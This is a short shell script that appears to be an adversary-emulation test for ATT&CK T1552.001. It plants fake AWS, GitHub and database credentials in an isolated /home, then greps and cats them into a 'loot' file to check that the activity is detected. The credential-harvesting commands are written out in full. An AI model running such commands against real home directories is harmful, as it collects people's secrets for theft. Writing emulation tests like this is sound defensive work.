# technique: T1552.001
# tactic: credential-access
# name: Home folders searched for passwords, cloud keys and git credentials in files
# expect: detected
. "$EMULATION_LIB"
need find grep
# A private, empty /home with one made-up user: the host's home folders are never read.
private_tmpfs /home
mkdir -p /home/devops/.aws /home/devops/app
printf '[default]\naws_access_key_id = AKIAEXAMPLEEXAMPLE00\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n' > /home/devops/.aws/credentials
printf 'https://devops:ghp_exampleexampleexampleexample00@github.com\n' > /home/devops/.git-credentials
printf 'DB_HOST=db.internal\nDB_USER=app\nDB_PASSWORD=Winter2024!\n' > /home/devops/app/.env

# The attacker: grep for password-like strings, then pull out cloud and git credential files.
grep -rIiE 'passw(or)?d|secret|api[_-]?key|token' /home 2>/dev/null > loot.txt || true
find /home -path '*/.aws/*' -name credentials -exec cat {} \; >> loot.txt
find /home -maxdepth 2 -name .git-credentials -exec cat {} \; >> loot.txt
grep -q 'DB_PASSWORD=Winter2024!' loot.txt
grep -q 'aws_secret_access_key' loot.txt
